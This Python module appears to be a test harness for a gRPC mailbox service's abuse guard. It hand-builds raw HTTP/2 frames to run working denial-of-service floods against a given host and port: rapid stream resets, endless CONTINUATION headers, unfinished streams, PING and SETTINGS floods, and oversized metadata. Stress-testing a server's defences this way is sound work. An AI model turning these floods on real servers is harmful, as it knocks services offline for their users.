"""Raw HTTP/2 against the gRPC port, without a valid key: what no well-behaved client library would send.

Frames and header blocks are encoded here (RFC 9113, RFC 7541 literals without indexing), so that no limit of a client
library applies.
"""

import asyncio
import contextlib
import itertools
import struct
from collections.abc import Callable, Iterator, Sequence

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
ACK, END_STREAM, END_HEADERS, PADDED = 0x1, 0x1, 0x4, 0x8
METHOD = "/postroom.v1alpha1.MailboxService/GetMailbox"
UNKNOWN_KEY = "00000000-0000-4000-8000-000000000000"
STREAMS_PER_CHUNK = 50
ADDRESS = "127.0.0.2"
"""Of the connections that flood, other than that of the victim and the gateway: the guard judges by address."""

Chunks = Iterator[bytes]


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return one frame."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def header_block(headers: Sequence[tuple[str | bytes, str | bytes]]) -> bytes:
    """Return a header block of literals without indexing and without Huffman coding."""
    return b"".join(b"\0" + _string(name) + _string(value) for name, value in headers)


def _string(text: str | bytes) -> bytes:
    octets = text.encode() if isinstance(text, str) else text
    if len(octets) < 127:
        return bytes([len(octets)]) + octets
    rest, prefix = len(octets) - 127, bytearray([127])
    while rest >= 128:
        prefix.append(rest % 128 + 128)
        rest //= 128
    return bytes(prefix + bytes([rest])) + octets


def call_headers(*extra: tuple[str, str]) -> bytes:
    """Return the header block of a gRPC call with an invalid key."""
    return header_block(
        [
            (":method", "POST"),
            (":scheme", "http"),
            (":path", METHOD),
            (":authority", "localhost"),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
            ("x-auth-token", UNKNOWN_KEY),
            *extra,
        ]
    )


def calls(*, reset: bool) -> Chunks:
    """Yield complete calls, each with HEADERS and DATA, and RST_STREAM at once if `reset`."""
    block, body = call_headers(), b"\0\0\0\0\0"
    for chunk in itertools.count():
        frames = []
        for number in range(STREAMS_PER_CHUNK):
            stream = 2 * (chunk * STREAMS_PER_CHUNK + number) + 1
            frames += [frame(HEADERS, END_HEADERS, stream, block), frame(DATA, END_STREAM, stream, body)]
            if reset:
                frames.append(frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))
        yield b"".join(frames)


def unfinished_streams() -> Chunks:
    """Yield calls whose body never ends."""
    block = call_headers()
    for stream in itertools.count(1, 2):
        yield frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, 0, stream, b"\0\0\0\1\0")


def continuations() -> Chunks:
    """Yield one header block that never ends."""
    yield frame(HEADERS, 0, 1, call_headers())
    while True:
        yield frame(CONTINUATION, 0, 1, header_block([("x-filler", "x" * 4_000)]))


def pings() -> Chunks:
    """Yield PING frames."""
    while True:
        yield frame(PING, 0, 0, b"attacker") * 200


def settings() -> Chunks:
    """Yield SETTINGS frames, each of which must be acknowledged."""
    while True:
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100)) * 200


def oversized_metadata() -> Chunks:
    """Yield calls with 64 KiB of metadata in CONTINUATION frames."""
    block = call_headers(*[(f"x-filler-{number}", "x" * 4_000) for number in range(16)])
    parts = [block[start : start + 16_000] for start in range(0, len(block), 16_000)]
    for stream in itertools.count(1, 2):
        yield frame(HEADERS, 0, stream, parts[0])
        for number, part in enumerate(parts[1:], start=2):
            yield frame(CONTINUATION, END_HEADERS if number == len(parts) else 0, stream, part)
        yield frame(DATA, END_STREAM, stream, b"\0\0\0\0\0")


async def flood(
    host: str, port: int, connections: int, chunks: Callable[[], Chunks], patience_seconds: float | None = None
) -> None:
    """Send chunks over each of several connections. Runs until canceled.

    Reconnects whenever the server hangs up, or has taken nothing for `patience_seconds`.
    """
    await asyncio.gather(*(_flood_forever(host, port, chunks, patience_seconds) for _ in range(connections)))


async def _flood_forever(host: str, port: int, chunks: Callable[[], Chunks], patience_seconds: float | None) -> None:
    while True:
        with contextlib.suppress(OSError):  # TimeoutError included
            reader, writer = await asyncio.open_connection(host, port, local_addr=(ADDRESS, 0))
            discarding = asyncio.create_task(_discard(reader))
            try:
                writer.write(PREFACE + frame(SETTINGS, 0, 0))
                for chunk in chunks():
                    if discarding.done():
                        break
                    writer.write(chunk)
                    async with asyncio.timeout(patience_seconds):
                        await writer.drain()
                    await asyncio.sleep(0)
            finally:
                discarding.cancel()
                writer.transport.abort()
        await asyncio.sleep(0.01)


async def _discard(reader: asyncio.StreamReader) -> None:
    while await reader.read(65_536):
        pass
